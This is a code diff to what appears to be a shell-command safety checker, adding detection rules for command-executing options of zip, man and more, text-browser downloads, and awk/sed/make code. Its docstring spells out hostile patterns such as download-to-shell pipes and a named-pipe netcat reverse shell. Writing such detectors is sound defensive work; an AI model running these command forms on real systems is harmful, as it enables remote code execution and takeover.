@@ -59,11 +59,18 @@ whose value is a command (``core.sshCommand``, ``core.pager``, ``core.editor``,
 set on the command or earlier in the line), and ``>(sh)`` process substitutions a
 command writes into (``echo ... > >(sh)``, ``... | tee >(bash)``); a download written
 into one (``curl URL > >(bash)``, ``wget -O- URL | tee >(sh)``) is ``rce``, as a pipe.
-``sh -c SCRIPT NAME ARGS`` gives the script its positional parameters.
+``sh -c SCRIPT NAME ARGS`` gives the script its positional parameters.  ``zip -TT``/
+``--unzip-command``, ``man -P``/``-H`` and ``more +!`` run their value; the commands
+``awk``, ``sed`` and ``make`` run in their own syntax are judged too (:mod:`.languages`).
+A download run by a text-mode browser (``lynx -source``, ``w3m -dump_source``) or written
+through ``curl -o >(sh)`` is ``rce``; a shell reading a named pipe that a network tool
+in its pipeline writes (``mknod F p; sh -i < F | nc HOST PORT > F``) is
+``reverse-shell``.
 
 The family is a folder: :mod:`.code` (``rce``, ``dynamic-code`` and the reverse-shell
 pipelines: program text a shell or an interpreter runs, downloads, inline programs,
-``>(sh)`` sinks, crontab text), :mod:`.fork_bomb`, :mod:`.network` (``nc``, ``socat``),
+``>(sh)`` sinks, crontab text), :mod:`.languages` (``awk``, ``sed``, ``make``),
+:mod:`.fork_bomb`, :mod:`.network` (``nc``, ``socat``),
 :mod:`.runners` (commands that run a command or a shell string: ``su``, ``ssh``,
 ``watch``, ``tmux``, ``screen``, ``parallel``...) and :mod:`.command_options` (options,
 settings and variables whose value is a command: ``rsync -e``, ``tar
@@ -74,7 +81,7 @@ their tables.
 from __future__ import annotations
 
 from ..run import FunctionRule, PipelineRule, Rule
-from .code import pipeline_rules, pipeline_sinks, rule_awk, rule_code, rule_process_sinks
+from .code import pipeline_fifo, pipeline_rules, pipeline_sinks, rule_code, rule_process_sinks
 from .command_options import (
     EDITORS,
     rule_command_vars,
@@ -82,11 +89,14 @@ from .command_options import (
     rule_gdb,
     rule_git_commands,
     rule_less,
+    rule_man,
     rule_rsync,
     rule_scp,
     rule_tar,
+    rule_zip,
 )
 from .fork_bomb import fork_bomb
+from .languages import pipeline_input_code
 from .network import rule_netcat, rule_socat
 from .runners import (
     rule_expect,
@@ -111,6 +121,10 @@ RULES: dict[str, tuple[Rule, ...]] = {
     "tar": (rule_tar,),
     **dict.fromkeys(EDITORS, (rule_editor,)),
     "less": (rule_less,),
+    "more": (rule_less,),
+    "most": (rule_less,),
+    "man": (rule_man,),
+    "zip": (rule_zip,),
     "gdb": (rule_gdb,),
     "sg": (rule_sg,),
     "nix-shell": (rule_nix_shell,),
@@ -121,7 +135,6 @@ RULES: dict[str, tuple[Rule, ...]] = {
     "git": (rule_git_commands,),
     "nc": (rule_netcat,),
     "socat": (rule_socat,),
-    "awk": (rule_awk,),
     "su": (rule_su,),
     "ssh": (rule_ssh,),
     "watch": (rule_watch,),
@@ -131,5 +144,10 @@ RULES: dict[str, tuple[Rule, ...]] = {
     "expect": (rule_expect,),
 }
 GENERIC: tuple[Rule, ...] = (rule_code, rule_command_vars, rule_process_sinks)
-PIPELINES: tuple[PipelineRule, ...] = (pipeline_rules, pipeline_sinks)
+PIPELINES: tuple[PipelineRule, ...] = (
+    pipeline_rules,
+    pipeline_sinks,
+    pipeline_fifo,
+    pipeline_input_code,
+)
 FUNCTIONS: tuple[FunctionRule, ...] = (fork_bomb,)
